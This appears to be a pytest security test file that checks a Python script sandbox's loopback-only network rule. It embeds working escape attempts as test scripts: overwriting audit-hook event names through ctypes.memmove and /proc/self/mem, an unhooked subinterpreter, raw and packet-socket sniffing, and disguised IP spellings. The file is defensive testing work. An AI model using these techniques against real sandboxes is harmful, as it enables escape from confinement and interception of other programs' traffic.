"""Scripts after the network beyond loopback (LEON_CSS scripts may use loopback only): each test is
one technique, run as a real Script node in a real pipeline (all of them at once, in one device),
and checks the effect: a server this test runs on the machine's own non-loopback address got no
connection or datagram from the script, nothing from outside reached a socket of the script, the
traffic of other programs was not read, a Unix socket of the host got no connection.

The "outside" servers listen on this machine's non-loopback address (a packet to it never leaves
the machine, but a script that reaches it reaches any address); tests that need one are skipped on
a machine that has none."""
import ast
import select
import socket
import sysconfig
import threading
import time
import uuid

import pytest

from attacks import Attacks, local_addresses

ATTACKS = Attacks()
V4, V6 = local_addresses()
OUTSIDE_V4 = V4[0] if V4 else None
OUTSIDE_V6 = V6[0] if V6 else None
TRAFFIC_SECRET = f"oakling-traffic-{uuid.uuid4().hex}"
SERVER_PORTS = set()   # the ports of this test's own servers, in the host's network


class Servers:
    """Per attack: a TCP server on the outside IPv4 address (and IPv6, if any) and a UDP socket;
    every connection and datagram they get is recorded under the attack's name."""

    def __init__(self, names):
        self.got = {name: [] for name in names}
        self.sockets = {}
        self.ports = {}
        for name in names:
            ports = {}
            for key, family, kind, host in (("tcp", socket.AF_INET, socket.SOCK_STREAM, OUTSIDE_V4),
                                            ("tcp6", socket.AF_INET6, socket.SOCK_STREAM, OUTSIDE_V6),
                                            ("udp", socket.AF_INET, socket.SOCK_DGRAM, OUTSIDE_V4)):
                if host is None:
                    ports[key] = None
                    continue
                sock = socket.socket(family, kind)
                sock.bind((host, 0))
                if kind == socket.SOCK_STREAM:
                    sock.listen(8)
                sock.setblocking(False)
                self.sockets[sock] = (name, key)
                ports[key] = (host, sock.getsockname()[1])
                SERVER_PORTS.add(ports[key][1])
            self.ports[name] = ports
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while self.running:
            ready, _, _ = select.select(list(self.sockets), [], [], 0.05)
            for sock in ready:
                name, key = self.sockets[sock]
                try:
                    if sock.type == socket.SOCK_STREAM:
                        conn, peer = sock.accept()
                        self.got[name].append((key, peer))
                        conn.close()
                    else:
                        data, peer = sock.recvfrom(4096)
                        self.got[name].append((key, peer, data))
                except OSError:
                    pass

    def close(self):
        self.running = False
        self.thread.join()
        for sock in self.sockets:
            sock.close()


def traffic(stop: threading.Event):
    """Another program's conversation on loopback, carrying a secret, while the scripts run."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    client = socket.create_connection(server.getsockname())
    peer, _ = server.accept()
    while not stop.is_set():
        client.sendall(TRAFFIC_SECRET.encode())
        peer.recv(4096)
        time.sleep(0.01)
    for sock in (client, peer, server):
        sock.close()


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    storage = tmp_path_factory.mktemp("network")
    unix_path = str(tmp_path_factory.mktemp("unix") / "host.sock")
    unix_abstract = f"\0oakling-host-{uuid.uuid4().hex}"
    unix_servers = []
    for address in (unix_path, unix_abstract):
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind(address)
        server.listen(8)
        server.setblocking(False)
        unix_servers.append(server)
    servers = Servers(ATTACKS.attacks)
    stop = threading.Event()
    talker = threading.Thread(target=traffic, args=(stop,), daemon=True)
    talker.start()
    constants = {"STDLIB": sysconfig.get_paths()["stdlib"], "OUTSIDE_V4": OUTSIDE_V4, "OUTSIDE_V6": OUTSIDE_V6,
                 "UNIX_PATH": unix_path, "UNIX_ABSTRACT": unix_abstract}
    try:
        with pytest.MonkeyPatch.context() as mp:
            mp.setenv("OAKLING_STORAGE", str(storage))
            outcomes = ATTACKS.run(constants, lambda name: {"OUTSIDE_TCP": servers.ports[name]["tcp"],
                                                            "OUTSIDE_TCP6": servers.ports[name]["tcp6"],
                                                            "OUTSIDE_UDP": servers.ports[name]["udp"]})
        time.sleep(0.1)
        unix_connections = []
        for server in unix_servers:
            try:
                unix_connections.append(server.accept())
            except BlockingIOError:
                pass
        yield {"outcomes": outcomes, "got": servers.got, "unix": unix_connections}
    finally:
        stop.set()
        talker.join()
        servers.close()
        for server in unix_servers:
            server.close()


@pytest.fixture
def outcome(world, request):
    return world["outcomes"][request.function.__name__]


def needs_outside():
    if OUTSIDE_V4 is None:
        pytest.skip("this machine has no non-loopback IPv4 address to stand for the outside")


def assert_nothing_arrived(world, outcome, name):
    needs_outside()
    assert outcome.report or outcome.failure, f"the attack neither reported nor failed: {outcome.extra}"
    assert world["got"][name] == [], \
        f"a server on the outside address got {world['got'][name]} from the script: {outcome}"


def items(outcome) -> list:
    try:
        return ast.literal_eval(outcome.report)
    except (ValueError, SyntaxError):
        return []


# -- the harness itself --

@ATTACKS.add("""
    import socket
    server = socket.socket()
    server.bind(('127.0.0.1', 0))
    server.listen(1)
    client = socket.create_connection(server.getsockname(), timeout=2)
    conn, peer = server.accept()
    client.sendall(b'loopback works')
    found.append(conn.recv(64))
""")
def test_the_harness_sees_what_a_script_may_do_on_loopback(outcome):
    assert "loopback works" in outcome.report, outcome


# -- sockets that end up on every interface --

def reach_its_listeners(outcome, device):
    """Connect to the TCP ports the script reported, on the outside addresses, and send a datagram
    to its UDP port; whether the kernel let them in."""
    reached = []
    for kind, port in [item for item in items(outcome) if isinstance(item, tuple)]:
        if port in SERVER_PORTS:   # the script's network numbers its ports on its own: a port it
            continue               # got may be one of our servers', which would answer for it
        for host in filter(None, (OUTSIDE_V4, OUTSIDE_V6)):
            if kind == "tcp":
                try:
                    socket.create_connection((host, port), timeout=1).close()
                    reached.append(("tcp", host, port))
                except OSError:
                    pass
            elif kind == "udp" and ":" not in host:
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                    sock.sendto(b"from outside", (host, port))
                time.sleep(0.1)
                with open("/proc/net/udp") as f:   # the datagram waiting on the script's socket
                    for line in f.readlines()[1:]:
                        fields = line.split()
                        if int(fields[1].split(":")[1], 16) == port and int(fields[4].split(":")[1], 16):
                            reached.append(("udp", host, port))
    return reached


@ATTACKS.add("""
    import socket
    tcp = socket.socket()
    tcp.listen(8)                                    # never bound: the kernel picks the address
    found.append(('tcp', tcp.getsockname()[1]))
    tcp6 = socket.socket(socket.AF_INET6)
    tcp6.listen(8)
    found.append(('tcp', tcp6.getsockname()[1]))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b'x', ('127.0.0.1', 9))               # sending binds it, to the same address
    found.append(('udp', udp.getsockname()[1]))
""", linger=1.0, probe=reach_its_listeners)
def test_sockets_never_bound_are_reachable_from_no_outside_address(outcome):
    """A socket that listens (or sends) without bind() is bound by the kernel to the wildcard
    address, every interface, without any bind for the sandbox to judge."""
    needs_outside()
    assert outcome.report or outcome.failure
    assert outcome.probed == [], f"outside addresses reached the script's sockets: {outcome.probed} ({outcome})"


# -- reading other programs' traffic --

SNIFF = """
    import socket, time
    deadline = time.monotonic() + 1.0
    sock.settimeout(0.2)
    needle = b'oakling-' + b'traffic-'
    while time.monotonic() < deadline:
        try:
            packet = sock.recv(65536)
        except OSError:
            continue
        if needle in packet:
            found.append(packet[packet.find(needle):][:64])
            break
"""


@ATTACKS.add("""
    import socket
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
""" + SNIFF)
def test_a_raw_socket_reads_no_other_programs_traffic(outcome):
    """An AF_INET raw socket (root has CAP_NET_RAW) gets a copy of every TCP packet the machine
    receives, loopback included."""
    assert outcome.report or outcome.failure
    assert TRAFFIC_SECRET not in outcome.report, f"the script read another program's traffic: {outcome}"


@ATTACKS.add("""
    import socket
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))   # ETH_P_ALL
""" + SNIFF)
def test_a_packet_socket_reads_no_other_programs_traffic(outcome):
    assert outcome.report or outcome.failure
    assert TRAFFIC_SECRET not in outcome.report, f"the script read another program's traffic: {outcome}"


# -- talking to the outside past the loopback rule --

@ATTACKS.add("""
    import socket
    ctypes = _os.sys.modules['ctypes']
    sandbox = _os.sys.modules['oakling.script.sandbox']
    for event in sandbox._ADDRESS_EVENTS | sandbox._NAME_EVENTS:
        view = bytes(128 + len(event))
        ctypes.memmove(id(view) + 32, id(event), 96 + len(event))
        at = view.find(event.encode())
        ctypes.memmove(id(event) + at + len(event) - 1, b'~', 1)   # 'socket.connect' -> 'socket.connec~'
    found.append(sorted(sandbox._ADDRESS_EVENTS))
    socket.create_connection(OUTSIDE_TCP, timeout=2).sendall(b'escaped')
    found.append('connected')
""")
def test_memmove_into_the_sandboxs_event_names_reaches_no_outside_address(world, outcome, request):
    """The audit hook looks events up in sets of names the sandbox module holds; ctypes.memmove,
    with addresses from id(), rewrites those names in place, so 'socket.connect' is no longer
    among them."""
    assert_nothing_arrived(world, outcome, request.function.__name__)


@ATTACKS.add("""
    import socket
    ctypes = _os.sys.modules['ctypes']
    sandbox = _os.sys.modules['oakling.script.sandbox']
    memory = _os.sys.modules['posix'].open('/proc/self/mem', _os.O_RDWR)
    for event in sandbox._ADDRESS_EVENTS | sandbox._NAME_EVENTS:
        raw = _os.pread(memory, 96 + len(event), id(event))
        at = raw.find(event.encode())
        _os.pwrite(memory, b'~', id(event) + at + len(event) - 1)
    found.append(sorted(sandbox._ADDRESS_EVENTS))
    socket.create_connection(OUTSIDE_TCP, timeout=2).sendall(b'escaped')
    found.append('connected')
""")
def test_proc_self_mem_writes_into_the_sandbox_reach_no_outside_address(world, outcome, request):
    """The same rewrite of the hook's event names, through /proc/self/mem instead of ctypes."""
    assert_nothing_arrived(world, outcome, request.function.__name__)


@ATTACKS.add("""
    import socket
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for send in (lambda: sock.sendto(b'escaped', OUTSIDE_UDP),
                 lambda: sock.sendmsg([b'escaped'], [], 0, OUTSIDE_UDP),
                 lambda: (sock.connect(OUTSIDE_UDP), sock.send(b'escaped'))):
        try:
            send()
            found.append('sent')
        except Exception as e:
            found.append(repr(e))
""")
def test_udp_to_an_outside_address_delivers_nothing(world, outcome, request):
    assert_nothing_arrived(world, outcome, request.function.__name__)


@ATTACKS.add("""
    import socket, struct
    host, port = OUTSIDE_TCP
    number = struct.unpack('>I', socket.inet_aton(host))[0]
    spellings = [(socket.AF_INET6, '::ffff:' + host), (socket.AF_INET, str(number)), (socket.AF_INET, hex(number)),
                 (socket.AF_INET, '.'.join(oct(int(part)).replace('o', '') for part in host.split('.'))),
                 (socket.AF_INET, host + ' 127.0.0.1')]
    if OUTSIDE_TCP6:
        spellings.append((socket.AF_INET6, OUTSIDE_TCP6[0]))
    for family, spelling in spellings:
        sock = socket.socket(family)
        sock.settimeout(1)
        try:
            sock.connect((spelling, OUTSIDE_TCP6[1] if OUTSIDE_TCP6 and spelling == OUTSIDE_TCP6[0] else port))
            found.append('connected ' + spelling)
        except Exception as e:
            found.append(repr(e))
""")
def test_other_spellings_of_the_outside_address_reach_nothing(world, outcome, request):
    """IPv4-mapped IPv6, a bare number, hexadecimal and octal forms (the resolver accepts them all),
    trailing text, and the machine's IPv6 address."""
    assert_nothing_arrived(world, outcome, request.function.__name__)


@ATTACKS.add("""
    imp = _os.sys.modules['_imp']
    util = _os.sys.modules['importlib.util']
    suffix = _os.sys.modules['_frozen_importlib_external'].EXTENSION_SUFFIXES[0]
    spec = util.spec_from_file_location('_xxsubinterpreters', STDLIB + '/lib-dynload/_xxsubinterpreters' + suffix)
    interpreters = imp.create_dynamic(spec)
    other = interpreters.create()      # an interpreter of its own, which has no audit hook
    interpreters.run_string(other, 'import socket; socket.create_connection(%r, timeout=2).sendall(b"escaped")'
                            % (OUTSIDE_TCP,))
    found.append('ran')
""")
def test_a_subinterpreter_of_its_own_reaches_no_outside_address(world, outcome, request):
    """Audit hooks added with sys.addaudithook belong to one interpreter; a new one starts without."""
    assert_nothing_arrived(world, outcome, request.function.__name__)


# -- other families --

@ATTACKS.add("""
    import socket
    for address in (UNIX_PATH, UNIX_ABSTRACT):
        try:
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.connect(address)
            sock.sendall(b'escaped')
            found.append('connected')
        except Exception as e:
            found.append(repr(e))
""")
def test_unix_sockets_of_the_host_get_no_connection(world, outcome):
    """A Unix socket the host program listens on (a file, and an abstract name)."""
    assert outcome.report or outcome.failure
    assert world["unix"] == [], f"a Unix socket of the host got connections from the script: {outcome}"


@ATTACKS.add("""
    import socket, struct
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)        # NETLINK_ROUTE
    sock.settimeout(2)
    RTM_GETADDR, NLM_F_REQUEST, NLM_F_DUMP, NLMSG_DONE = 22, 1, 0x300, 3
    sock.send(struct.pack('=LHHLL', 24, RTM_GETADDR, NLM_F_REQUEST | NLM_F_DUMP, 1, 0)
              + struct.pack('=BBBBI', socket.AF_INET, 0, 0, 0, 0))
    done = False
    while not done:
        data = sock.recv(65536)
        while len(data) >= 16:
            length, kind = struct.unpack_from('=LH', data)
            if kind == NLMSG_DONE or length < 16:
                done = True
                break
            at = 16 + 8
            while at + 4 <= length:
                size, attribute = struct.unpack_from('=HH', data, at)
                if attribute in (1, 2) and size == 8:                # IFA_ADDRESS, IFA_LOCAL
                    found.append(socket.inet_ntoa(data[at + 4:at + 8]))
                at += max(4, (size + 3) & ~3)
            data = data[(length + 3) & ~3:]
""")
def test_netlink_reveals_no_address_of_the_machine(outcome):
    """A NETLINK_ROUTE socket lists (and, as root, changes) the machine's addresses and routes."""
    needs_outside()
    assert outcome.report or outcome.failure
    assert OUTSIDE_V4 not in outcome.report, f"the script listed the machine's addresses: {outcome}"
